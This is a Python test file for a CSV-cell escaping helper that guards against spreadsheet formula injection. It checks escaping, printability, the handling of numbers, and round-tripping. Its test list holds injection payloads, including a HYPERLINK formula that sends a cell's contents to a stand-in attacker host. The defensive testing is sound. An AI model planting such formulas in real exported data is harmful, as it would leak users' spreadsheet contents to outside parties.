"""What a spreadsheet is given holds no formula of somebody else's."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.test_printable import HOSTILE

from aiodps.fleet.measure.csv_cells import from_cell, to_cell
from aiodps.printable import printable

FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\uff1d1",
    "'=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text: str) -> None:
    """With a mark in front, that is taken away when it is read back."""
    cell = to_cell(text)

    assert cell.startswith("'")
    assert from_cell(cell) == printable(text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_cell_is_printable(text: str) -> None:
    """It has no line ends either, which many programs take for the end of a row."""
    assert to_cell(text).isprintable()


def test_numbers_stay_numbers() -> None:
    """A negative one is no formula."""
    assert (to_cell(-1.5), to_cell(None), to_cell(0)) == (-1.5, None, 0)


@given(st.text())
def test_any_text_comes_back(text: str) -> None:
    """As far as it can be printed."""
    assert from_cell(to_cell(text)) == printable(text)
